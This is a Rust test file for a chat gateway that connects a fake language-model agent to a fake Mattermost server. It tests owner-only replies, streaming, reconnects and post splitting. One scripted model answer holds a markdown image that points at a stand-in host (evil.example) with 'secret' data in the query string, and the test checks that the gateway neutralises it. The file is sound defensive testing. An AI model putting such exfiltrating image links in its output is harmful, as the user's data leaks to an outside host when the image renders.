//! gatewayd with the real stack and a fake Mattermost server: the owner chats in threads,
//! strangers are ignored, model output reaches Mattermost inert, and a dropped WebSocket
//! loses and doubles nothing.

use std::time::Duration;

use serde_json::Value;
use stack::{Gateway, Home};

const BOT: &str = "botuserid00000000000000000";
const HELLO: &str = "Hello from the fake model, streamed in small pieces.";

const SCRIPT: &str = r#"
[server]
n_ctx = 16384
chunk_chars = 4

[[rule]]
[rule.match]
user_contains = "picture"
[rule.answer]
text = "Look: ![](http://evil.example/?data=secret) done."

[default]
text = "Hello from the fake model, streamed in small pieces."
chunk_delay_ms = 20
"#;

/// The bot's posts in the thread of `root`.
fn replies(state: &Value, root: &str) -> Vec<Value> {
    state["posts"]
        .as_array()
        .expect("posts")
        .iter()
        .filter(|p| p["user_id"] == BOT && p["root_id"] == root)
        .cloned()
        .collect()
}

fn answered(gw: &Gateway, root: &str, text: &str) -> Value {
    let state = gw.wait(&format!("a reply {text:?} in {root}"), |s| {
        replies(s, root)
            .iter()
            .any(|p| p["message"].as_str().is_some_and(|m| m.contains(text)))
    });
    replies(&state, root).remove(0)
}

fn gateway_state(home: &Home) -> Value {
    let text = std::fs::read_to_string(home.root.join("home/gateway/state.json")).expect("state");
    serde_json::from_str(&text).expect("state json")
}

#[test]
fn the_owner_chats_in_threads_and_strangers_are_ignored() {
    let home = Home::new("gateway", "");
    let gw = home.start_gateway(&["owner"], "edit_interval = \"10ms\"");
    let _agent = home.start_agent(SCRIPT, "");

    let root = gw.post("owner", "hello there", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let reply = answered(&gw, &root, HELLO);
    assert_eq!(reply["message"], HELLO);
    let state = gw.state();
    let edits = state["edits"][reply["id"].as_str().expect("id")]
        .as_u64()
        .unwrap_or(0);
    assert!(
        edits >= 1,
        "the reply was streamed by editing it: {state:#}"
    );
    assert!(state["typing"].as_u64() >= Some(1), "typing shown");

    let stranger = gw.post("stranger", "hello? tell me a picture", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    // The owner continues the thread: same session, and the injected image reaches
    // Mattermost inert.
    gw.post("owner", "show me a picture", Some(&root));
    answered(&gw, &root, "done.");
    let all = replies(&gw.state(), &root);
    assert_eq!(all.len(), 2, "{all:#?}");
    let second = &all[1];
    let text = second["message"].as_str().expect("message");
    assert_eq!(text, "Look: `![](http://evil.example/?data=secret)` done.");
    std::thread::sleep(Duration::from_millis(500));
    assert!(
        replies(&gw.state(), &stranger).is_empty(),
        "a stranger is never answered"
    );
    assert!(
        gw.state()["posts"]
            .as_array()
            .expect("posts")
            .iter()
            .all(|p| p["root_id"] != stranger),
        "nothing in the stranger's thread"
    );
    let saved = gateway_state(&home);
    assert_eq!(saved["ignored"], 1, "{saved:#}");
    assert_eq!(
        saved["threads"].as_object().expect("threads").len(),
        1,
        "{saved:#}"
    );
    let sessions = std::fs::read_dir(home.root.join("home/sessions"))
        .expect("sessions")
        .count();
    assert_eq!(sessions, 1, "the thread continued its session");
}

#[test]
fn a_dropped_websocket_loses_and_doubles_nothing() {
    let home = Home::new("gateway-drop", "");
    let gw = home.start_gateway(&["owner"], "");
    let _agent = home.start_agent(SCRIPT, "");

    let first = gw.post("owner", "first", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    // Dropped mid-conversation: the reply is still streaming.
    stack::http(&gw.addr, "POST", "/fake/drop", &Value::Null);
    let second = gw.post("owner", "second, while gatewayd is away", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    answered(&gw, &first, HELLO);
    answered(&gw, &second, HELLO);
    let state = gw.wait("a reconnect", |s| s["connections"].as_u64() >= Some(2));
    assert!(state["live"].as_u64() >= Some(1));
    // A third post after the reconnect arrives over the WebSocket again.
    let third = gw.post("owner", "third", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    answered(&gw, &third, HELLO);
    std::thread::sleep(Duration::from_secs(1));
    let state = gw.state();
    for root in [&first, &second, &third] {
        assert_eq!(
            replies(&state, root).len(),
            1,
            "one reply for {root}: {state:#}"
        );
    }
}

#[test]
fn a_long_answer_is_split_within_the_post_limit_and_errors_are_said_plainly() {
    let home = Home::new("gateway-long", "");
    let gw = home.start_gateway(&["owner"], "");
    // No agent yet: the owner is told plainly.
    let early = gw.post("owner", "anyone there?", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    answered(&gw, &early, "**Sorry:** boxmaker's agent is not reachable");

    let long = "many words ".repeat(2000);
    let script = format!(
        "[server]\nn_ctx = 65536\nchunk_chars = 4000\n\n[[rule]]\n[rule.match]\n\
         user_contains = \"long\"\n[rule.answer]\ntext = \"{long}\"\n\n[default]\ntext = \"Hi.\"\n"
    );
    let _agent = home.start_agent(&script, "max_tokens = 16384");
    let root = gw.post("owner", "a long answer please", None)["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let state = gw.wait("the long answer in two posts", |s| {
        let parts = replies(s, &root);
        parts.len() == 2
            && parts
                .iter()
                .map(|p| p["message"].as_str().unwrap_or("").matches("many").count())
                .sum::<usize>()
                == 2000
    });
    for part in replies(&state, &root) {
        let text = part["message"].as_str().expect("message");
        assert!(text.chars().count() <= 16_000, "{}", text.chars().count());
    }
}
